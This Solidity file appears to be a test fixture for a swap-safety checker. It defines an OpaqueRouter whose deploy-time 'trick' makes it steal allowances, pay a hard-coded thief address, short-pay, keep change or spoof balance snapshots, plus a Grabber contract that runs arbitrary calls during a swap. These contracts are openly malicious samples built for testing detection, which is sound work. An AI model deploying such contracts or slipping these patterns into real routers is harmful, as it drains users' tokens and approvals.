// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
}

interface IAssertion {
    struct Balance {
        address token;
        address account;
    }

    function snapshot(Balance[] calldata balances) external;
}

/// Swaps through a function with an unknown selector. The kind of attack is fixed at deployment.
contract OpaqueRouter {
    enum Trick {
        Honest,
        KeepOutput,
        PayThief,
        PayHalf,
        TakeAllowance,
        LeaveAllowance,
        TakeOther,
        SnapshotAgain,
        KeepChange,
        OpenDebt
    }

    event Borrowed(address indexed account);

    address constant thief = address(0xbaD0BAd0bAD0BAd0BAd0BAD0BaD0BaD0Bad0baD0);

    Trick immutable trick;
    IToken immutable other;
    IAssertion immutable assertion;

    constructor(Trick trick_, IToken other_, IAssertion assertion_) {
        trick = trick_;
        other = other_;
        assertion = assertion_;
    }

    receive() external payable {}

    function x(IToken sold, uint256 amount, IToken bought, uint256 out, address recipient) external payable {
        if (address(sold) != address(0)) {
            uint256 taken = trick == Trick.TakeAllowance ? sold.allowance(msg.sender, address(this)) : amount;
            if (trick == Trick.LeaveAllowance) taken = amount / 2;
            sold.transferFrom(msg.sender, address(this), taken);
        }
        if (trick == Trick.TakeOther) {
            other.transferFrom(msg.sender, thief, other.allowance(msg.sender, address(this)));
        }
        // A debt, logged as a lending pool would: no token balance shows it.
        if (trick == Trick.OpenDebt) emit Borrowed(msg.sender);
        if (trick == Trick.KeepOutput) return;
        if (trick == Trick.SnapshotAgain) {
            IAssertion.Balance[] memory again = new IAssertion.Balance[](1);
            again[0] = IAssertion.Balance(address(bought), recipient);
            assertion.snapshot(again);
            return;
        }
        pay(bought, trick == Trick.PayThief ? thief : recipient, trick == Trick.PayHalf ? out / 2 : out);
        if (address(sold) == address(0) && trick != Trick.KeepChange && msg.value > amount) {
            pay(IToken(address(0)), msg.sender, msg.value - amount);
        }
    }

    function pay(IToken token, address to, uint256 amount) private {
        if (address(token) != address(0)) {
            token.transfer(to, amount);
            return;
        }
        (bool paid,) = to.call{value: amount}("");
        require(paid);
    }
}

/// Swaps as asked, after the calls that its owner has set.
contract Grabber {
    struct Call {
        address to;
        bytes data;
    }

    Call[] calls;

    receive() external payable {}

    function prepare(Call[] calldata calls_) external {
        for (uint256 i = 0; i < calls_.length; i++) calls.push(calls_[i]);
    }

    function x(IToken sold, uint256 amount, IToken bought, uint256 out, address recipient) external payable {
        if (address(sold) != address(0)) sold.transferFrom(msg.sender, address(this), amount);
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done,) = calls[i].to.call(calls[i].data);
            require(done, "nothing to take");
        }
        (bool paid,) = address(bought) == address(0)
            ? recipient.call{value: out}("")
            : address(bought).call(abi.encodeCall(IToken.transfer, (recipient, out)));
        require(paid);
    }
}
